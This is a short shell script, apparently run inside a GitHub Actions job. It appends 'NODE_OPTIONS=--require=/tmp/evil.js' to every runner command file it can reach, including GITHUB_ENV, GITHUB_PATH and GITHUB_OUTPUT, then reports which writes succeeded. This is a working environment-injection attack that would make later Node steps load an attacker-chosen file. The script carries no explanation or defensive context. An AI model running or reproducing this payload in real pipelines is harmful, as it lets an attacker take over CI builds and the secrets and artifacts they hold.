# Writes the runner's command files: by the variables that name them, and by their paths, which are no secret.
for path in "$GITHUB_ENV" "$GITHUB_PATH" "$GITHUB_OUTPUT" "$GITHUB_STEP_SUMMARY" "$GITHUB_STATE" "$@"; do
  [ -n "$path" ] || continue
  mkdir -p "$(dirname "$path")"
  if echo 'NODE_OPTIONS=--require=/tmp/evil.js' >> "$path"; then echo "wrote $path"; else echo "denied: $path"; fi
done
echo tried
